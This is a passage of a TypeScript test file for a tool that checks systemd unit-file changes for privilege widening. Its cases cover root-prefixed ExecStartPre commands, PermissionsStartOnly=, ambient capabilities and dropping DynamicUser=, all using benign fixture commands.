      accepted: expect.arrayContaining([expect.objectContaining({ privilege: 'root', addedInChange: true })]),
    })
    // Above the same line, only re-spelled (merged /usr), with a sandbox added to the unit: the
    // command ran with full privileges outside any sandbox in base too, so nothing widens
    // (history survey FA-2) and nothing needs the waiver.
    const root = (extra: string, command: string): string => svc(`${extra}${waiver}ExecStartPre=+${command}\n`)
    const respelled = pr(
      { 'u/a.service': root('', '/usr/bin/disk-setup') },
      { 'u/a.service': root('ProtectSystem=strict\n', '/bin/disk-setup') },
    )
    expect(unit(respelled, 'a.service').capabilities.widened).toEqual([])
  })
})

describe('what real upstream history taught (history survey)', () => {
  it('a sandbox added to a unit with an unchanged + or PermissionsStartOnly= command widens nothing (FA-2: cockpit, netdata, coredns)', () => {
    // cockpit: a root unit whose + command stays, gaining ProtectSystem= and PrivateDevices=.
    const rootUnit = (extra: string) => svc(`ExecStartPre=+/usr/sbin/remotectl certificate --ensure\n${extra}`)
    expect(
      pr({ 'u/a.service': rootUnit('') }, { 'u/a.service': rootUnit('ProtectSystem=strict\nPrivateDevices=yes\n') })
        .verdict,
    ).toBe('pass')
    // netdata: User= with PermissionsStartOnly=, gaining a bounding set and ProtectSystem=.
    const pso = (extra: string) =>
      svc(`User=netdata\nPermissionsStartOnly=true\nExecStartPre=/bin/mkdir -p /var/cache/netdata\n${extra}`)
    const r = pr(
      { 'u/a.service': pso('') },
      { 'u/a.service': pso('CapabilityBoundingSet=CAP_SETUID\nProtectSystem=full\n') },
    )
    expect(r.services[0]!.capabilities.widened.filter((w) => w.level === 'command')).toEqual([])
    // A new + command on a sandboxed unit still escapes it.
    expect(
      pr(
        {
          'u/a.service': rootUnit('ProtectSystem=strict\n').replace(
            'ExecStartPre=+/usr/sbin/remotectl certificate --ensure\n',
            '',
          ),
        },
        { 'u/a.service': rootUnit('ProtectSystem=strict\n') },
      ).verdict,
    ).toBe('fail')
  })

  it('/var/run and /run are one directory in an elevated command line (FA-3: netdata)', () => {
    const unitWith = (dir: string) =>
      svc(`User=netdata\nPermissionsStartOnly=true\nExecStartPre=/bin/chown -R netdata:netdata ${dir}/netdata\n`)
    expect(pr({ 'u/a.service': unitWith('/var/run') }, { 'u/a.service': unitWith('/run') }).verdict).toBe('pass')
    expect(pr({ 'u/a.service': unitWith('/var/run') }, { 'u/a.service': unitWith('/var/lib') }).verdict).toBe('fail')
  })

  it('a new unit holding a capability names the line that grants it, not a later sandboxing line (TE-4: caddy, chrony)', () => {
    const caddy = svc(
      'User=caddy\nNoNewPrivileges=yes\nAmbientCapabilities=CAP_NET_BIND_SERVICE\nProtectKernelModules=yes\nPrivateDevices=yes\n',
    )
    const held = pr({}, { 'u/caddy.service': caddy }).services[0]!.capabilities.widened.find((w) => w.level === 'held')!
    expect([held.directive, held.line]).toEqual(['AmbientCapabilities=', 8])
    const root = pr(
      {},
      { 'u/root.service': svc('User=root\nProtectKernelModules=yes\n') },
    ).services[0]!.capabilities.widened.find((w) => w.level === 'held')!
    expect([root.directive, root.line]).toEqual(['User=', 6])
  })

  it('losing no-new-privileges makes uid 0 reachable through set-user-ID-root programs, even with an empty bounding set (M-3: systemd units dropping DynamicUser=)', () => {
    const base = svc('DynamicUser=yes\nCapabilityBoundingSet=\n')
    const r = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('DynamicUser=yes', 'User=timesync') })
    expect(r.verdict).toBe('fail')
    expect(findings(r.services[0]!)).toEqual([expect.stringMatching(/^reachable root {2}@u\/a\.service:\d+/)])
    expect(r.services[0]!.capabilities.widened[0]!.what).toBe(
      'can now gain uid 0 through set-user-ID or file-capability programs',
    )
  })
})
